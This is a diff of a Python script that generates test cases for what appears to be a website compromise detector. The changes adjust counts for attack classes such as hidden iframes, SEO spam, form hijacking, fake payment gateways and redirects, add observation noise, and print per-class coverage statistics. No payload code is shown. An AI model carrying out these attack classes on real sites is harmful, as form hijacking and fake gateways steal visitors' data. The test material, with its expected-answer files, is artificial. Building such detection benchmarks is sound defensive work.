 BENIGN.append(("payment_gateway", 1, ["aspnet_fa"], b_payment(len(PSP) + 2)))
 
 for method in HIDE_IFRAME:
-    ATTACK.append((f"iframe_hidden_{method}", 2, ALL, a_iframe_hidden(method)))
-for i, method in enumerate(HIDE_BLOCK):
-    for j in range(2):
-        lang = ("fa", "id", "en")[(i * 2 + j) % 3]
+    ATTACK.append((f"iframe_hidden_{method}", 3, ALL, a_iframe_hidden(method)))
+for method in HIDE_BLOCK:
+    for lang in ("fa", "id", "en"):
         ATTACK.append((f"seo_spam_{method}", 1, FA if lang == "fa" else ALL, a_seo_spam(method, lang)))
 ATTACK += [
     ("seo_spam_display", 1, FA, a_seo_spam("display", "fa")),
     ("seo_spam_offscreen", 1, ALL, a_seo_spam("offscreen", "id")),
+    ("seo_spam_parasite_pages", 3, [x for x in ALL if x not in SPA], a_parasite),
+    ("seo_spam_visible_links", 3, ALL, a_visible_spam),
     ("form_hijack", 5, FORMS, a_form_hijack),
-    ("form_hijack_js", 2, FORMS, a_form_js),
+    ("form_hijack_js", 3, FORMS, a_form_js),
     ("form_fake_payment_gateway", 3, FORMS, a_fake_gateway),
     ("redirect_meta_refresh", 3, ALL, a_redirect_meta),
     ("redirect_js", 3, ALL, a_redirect_js),
@@ -2629,6 +2829,7 @@ def site_bases(site):
 
 
 def main():
+    global CASE_INDEX
     for kind in ("benign", "attack", "site"):
         shutil.rmtree(os.path.join(HERE, kind), ignore_errors=True)
     for site in SITES:
@@ -2638,6 +2839,7 @@ def main():
             write(os.path.join(d, f"base{i}.html"), encode(site, b))
 
     counts = {"benign": Counter(), "attack": Counter()}
+    spread = {}  # (kind, class) -> (set of structures, set of languages)
     names = set()
     for kind, table in (("benign", BENIGN), ("attack", ATTACK)):
         for cls, count, eligible, maker in table:
@@ -2652,7 +2854,12 @@ def main():
                     n += 1
                 names.add(name)
                 r = rng("case", kind, name)
+                CASE_INDEX = i + counts[kind][cls]
                 mods, okw, extra = maker(site, r)
+                if not okw and site.struct != "spa" and maker is not b_routine:
+                    # the change rarely comes alone: on some checks the
+                    # news or the day moved as well
+                    okw = rng("also", kind, name).choice([{}, {}, {"news_off": 4}, {"day": 3}])
                 o = Obs(site, 3, rng("new", kind, name), **okw)
                 if "full" in mods:
                     body = mods["full"].encode("utf-8")  # the defacer's own page
@@ -2662,6 +2869,9 @@ def main():
                 os.makedirs(d)
                 write(os.path.join(d, "new.html"), body)
                 write(os.path.join(d, "expect"), expect_lines(kind, cls, site, extra).encode())
+                st, lg = spread.setdefault((kind, cls), (set(), set()))
+                st.add(site.struct)
+                lg.add(site.lang)
             counts[kind][cls] += count
 
     for sid, struct in REDESIGN:
@@ -2684,12 +2894,16 @@ def main():
         write(os.path.join(d, "new.html"), encode(new, render(new, Obs(new, 3, rng("redesign-new", sid)))))
         write(os.path.join(d, "expect"), expect_lines("benign", "redesign_accepted", new, [], with_site=False).encode())
         counts["benign"]["redesign_accepted"] += 1
+        st, lg = spread.setdefault(("benign", "redesign_accepted"), (set(), set()))
+        st.add(old.struct)
+        lg.add(old.lang)
 
     structs = Counter(s.struct for s in SITES)
     for kind in ("benign", "attack"):
         print(f"{kind}: {sum(counts[kind].values())} cases in {len(counts[kind])} classes")
         for cls, n in sorted(counts[kind].items()):
-            print(f"  {cls:40s} {n}")
+            st, lg = spread[(kind, cls)]
+            print(f"  {cls:40s} {n:3d}  ({len(st)} structures; {'/'.join(sorted(lg))})")
     print(f"sites: {len(SITES)} in {len(structs)} structures ({', '.join(sorted(structs))})")
 
 
